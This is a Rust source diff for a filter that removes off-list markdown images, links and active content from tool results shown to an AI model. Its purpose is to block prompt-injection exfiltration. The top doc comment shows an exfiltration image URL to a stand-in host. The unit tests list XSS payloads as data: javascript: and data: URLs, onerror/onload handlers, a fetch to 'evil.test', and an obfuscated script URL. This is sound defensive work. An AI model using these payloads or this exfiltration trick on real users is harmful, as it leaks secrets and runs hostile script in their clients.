@@ -1,12 +1,18 @@
 //! Dropping markdown images and links (and HTML images) that point off the allow-list.
 //!
 //! A markdown image in a tool result is fetched by the client the moment it renders, so
-//! `![](https://evil.example/p?d=<secret>)` exfiltrates without a click: absolute images
-//! whose host is not allowed are always removed. A link needs a click and is what honest
-//! documentation is made of (a README links to a dozen hosts), so off-list links are only
-//! removed from a text judged injected ([`LinkFilter::apply`]'s `links`), with the link
-//! text kept; relative ones stay. Matching uses the regex crate only, so it is linear in
-//! the text.
+//! `![](https://evil.example/p?d=<secret>)` exfiltrates without a click, if its URL carries
+//! the secret. A URL written into a tool result is fixed when the tool answers: it can only
+//! carry what the model is asked to put in it, and such an image (placeholders,
+//! data-looking query values) is a beacon the detector scores on its own
+//! (`hidden.image_beacon`), so the text is judged injected. From a text judged injected
+//! ([`LinkFilter::apply`]'s `judged`), every off-list image and link goes, the link text
+//! kept. An honest text keeps its badges, screenshots and links: removing every off-list
+//! image and every reference definition next to one changed a third of public READMEs and
+//! library docs (85 of 260) without stopping anything. Active content goes from every text:
+//! `javascript:`, `vbscript:` and `data:` URLs, and HTML images with event handlers.
+//! Relative URLs always stay. Matching uses the regex crate only, so it is linear in the
+//! text.
 
 use regex::{Captures, Regex};
 use std::borrow::Cow;
@@ -38,6 +44,10 @@ static HTML_IMG: LazyLock<Regex> =
     LazyLock::new(|| Regex::new(r#"(?i)<img(?-u:\b)[^>]{0,1024}>?"#).expect("constant regex"));
 
 #[allow(clippy::expect_used)] // a constant, compiled by the unit tests: cannot fail at run time
+static HTML_HANDLER: LazyLock<Regex> =
+    LazyLock::new(|| Regex::new(r#"(?i)[\s"'/]on[a-z]{3,20}\s*="#).expect("constant regex"));
+
+#[allow(clippy::expect_used)] // a constant, compiled by the unit tests: cannot fail at run time
 static HTML_SRC: LazyLock<Regex> = LazyLock::new(|| {
     Regex::new(r#"(?i)src\s*=\s*["']?([^"'\s>]{0,2048})"#).expect("constant regex")
 });
@@ -56,11 +66,10 @@ impl LinkFilter {
         }
     }
 
-    /// `text` without off-list images (and off-list links too when `links` is set: the text
-    /// was judged injected), and how many were removed; borrowed when nothing changed.
-    /// Reference definitions are links, unless the text also holds an image (`![`) that
-    /// could use one.
-    pub fn apply<'a>(&self, text: &'a str, links: bool) -> (Cow<'a, str>, usize) {
+    /// `text` without active content and, when `judged` (the text was judged injected),
+    /// without off-list images and links; how many were removed; borrowed when nothing
+    /// changed.
+    pub fn apply<'a>(&self, text: &'a str, judged: bool) -> (Cow<'a, str>, usize) {
         if !text.contains("](") && !text.contains("]:") && !contains_img(text) {
             return (Cow::Borrowed(text), 0);
         }
@@ -70,7 +79,7 @@ impl LinkFilter {
         for _ in 0..2 {
             let next = INLINE.replace_all(&out, |c: &Captures| {
                 let url = c.get(3).map_or("", |m| m.as_str());
-                if (!links && &c[1] != "!") || self.url_allowed(url) {
+                if !self.removes(url, judged) {
                     return c[0].to_string();
                 }
                 removed += 1;
@@ -86,9 +95,8 @@ impl LinkFilter {
                 break;
             }
         }
-        let references = links || out.contains("![");
         let next = REFERENCE.replace_all(&out, |c: &Captures| {
-            if !references || self.url_allowed(&c[1]) {
+            if !self.removes(&c[1], judged) {
                 return c[0].to_string();
             }
             removed += 1;
@@ -99,10 +107,11 @@ impl LinkFilter {
         }
         if contains_img(&out) {
             let next = HTML_IMG.replace_all(&out, |c: &Captures| {
-                let allowed = HTML_SRC
-                    .captures(&c[0])
-                    .is_some_and(|s| self.url_allowed(&s[1]));
-                if allowed {
+                let src = HTML_SRC.captures(&c[0]);
+                let src = src
+                    .as_ref()
+                    .map_or("", |s| s.get(1).map_or("", |m| m.as_str()));
+                if !self.removes(src, judged) && !HTML_HANDLER.is_match(&c[0]) {
                     return c[0].to_string();
                 }
                 removed += 1;
@@ -113,6 +122,12 @@ impl LinkFilter {
             }
         }
         (out, removed)
+    }
+
+    /// Whether a link or image to `url` goes: active content always, anything off the
+    /// allow-list from a text `judged` injected.
+    fn removes(&self, url: &str, judged: bool) -> bool {
+        is_active(url) || (judged && !self.url_allowed(url))
     }
 
     /// Relative URLs and allowed hosts pass; any other absolute or scheme URL does not.
@@ -163,6 +178,20 @@ impl LinkFilter {
     }
 }
 
+/// URLs that run or render content in the client instead of pointing somewhere:
+/// `javascript:`, `vbscript:` and `data:` (ASCII whitespace and case ignored, as browsers do).
+fn is_active(url: &str) -> bool {
+    let squeezed: String = url
+        .chars()
+        .filter(|c| !c.is_ascii_whitespace() && !c.is_ascii_control())
+        .take(16)
+        .collect::<String>()
+        .to_ascii_lowercase();
+    ["javascript:", "vbscript:", "data:"]
+        .iter()
+        .any(|scheme| squeezed.starts_with(scheme))
+}
+
 fn contains_img(text: &str) -> bool {
     text.as_bytes()
         .windows(4)
@@ -210,10 +239,10 @@ mod tests {
             "HTTPS://EVIL.TEST",
             "https://evildocs.example.com/",
         ] {
-            let (_, n) = f.apply(&format!("![i]({url})"), false);
+            let (_, n) = f.apply(&format!("![i]({url})"), true);
             assert_eq!(n, 1, "{url}");
         }
-        let (_, n) = f.apply("![i](https://DOCS.example.com:443/a.png)", false);
+        let (_, n) = f.apply("![i](https://DOCS.example.com:443/a.png)", true);
         assert_eq!(n, 0);
     }
 
@@ -226,7 +255,7 @@ mod tests {
         let (out, n) = f.apply("intro\n[1]: https://evil.test/x \"t\"\nend", true);
         assert_eq!(n, 1);
         assert!(!out.contains("evil"), "{out}");
-        let (out, n) = f.apply("<IMG src=\"https://evil.test/x.png\" width=1> ok <img src='https://docs.example.com/a.png'>", false);
+        let (out, n) = f.apply("<IMG src=\"https://evil.test/x.png\" width=1> ok <img src='https://docs.example.com/a.png'>", true);
         assert_eq!(n, 1);
         assert!(
             out.starts_with(IMAGE_MARKER) && out.contains("docs.example.com"),
@@ -234,17 +263,47 @@ mod tests {
         );
     }
 
+    /// A README's badges, screenshots, links and reference definitions stay in a text not
+    /// judged injected, and all go from one that is.
     #[test]
-    fn links_in_honest_text_stay_images_do_not() {
+    fn honest_text_keeps_its_images_and_links() {
         let f = filter();
-        let doc = "See [the guide](https://readthedocs.io/x) and [PEP 8](https://peps.python.org/pep-0008/).\n\n[ref]: https://github.com/a/b";
+        let doc = "[![CI](https://github.com/a/b/actions/workflows/ci.yml/badge.svg?branch=main)](https://github.com/a/b/actions)\n\n![demo](https://raw.githubusercontent.com/a/b/main/demo.gif)\n\nSee [the guide][guide] and <img src=\"https://img.shields.io/badge/MSRV-1.70-blue\" alt=msrv>.\n\n[guide]: https://b.readthedocs.io/en/latest/";
         let (out, n) = f.apply(doc, false);
         assert_eq!((out.as_ref(), n), (doc, 0));
         let (out, n) = f.apply(doc, true);
-        assert_eq!(n, 3, "{out}");
-        // A reference definition feeding an image is an image.
-        let (out, n) = f.apply("![chart][c]\n[c]: https://evil.test/p.png?d=1", false);
-        assert_eq!(n, 1, "{out}");
-        assert!(!out.contains("evil.test"), "{out}");
+        assert_eq!(n, 5, "{out}");
+        for gone in [
+            "github.com",
+            "githubusercontent",
+            "shields.io",
+            "readthedocs",
+        ] {
+            assert!(!out.contains(gone), "{gone}: {out}");
+        }
+    }
+
+    /// What runs in the client instead of pointing somewhere goes from every text, in
+    /// every spelling a browser accepts.
+    #[test]
+    fn active_content_goes_from_every_text() {
+        let f = filter();
+        for text in [
+            "[click](javascript:alert(1))",
+            "[click](  JavaScript:alert(1))",
+            "![i](data:image/svg+xml;base64,PHN2Zz4=)",
+            "[x](vbscript:msgbox)",
+            "[r]: javascript:alert(1)",
+            "<img src=x onerror=alert(1)>",
+            "<img/src=\"https://example.org/a.png\"/onload=\"fetch('//evil.test')\">",
+            "<IMG SRC=\"jav&#x09;ascript:alert(1)\" ONMOUSEOVER = alert(1)>",
+        ] {
+            let (out, n) = f.apply(text, false);
+            assert_eq!(n, 1, "{text} -> {out}");
+            assert!(
+                !out.contains("alert") && !out.contains("evil"),
+                "{text} -> {out}"
+            );
+        }
     }
 }
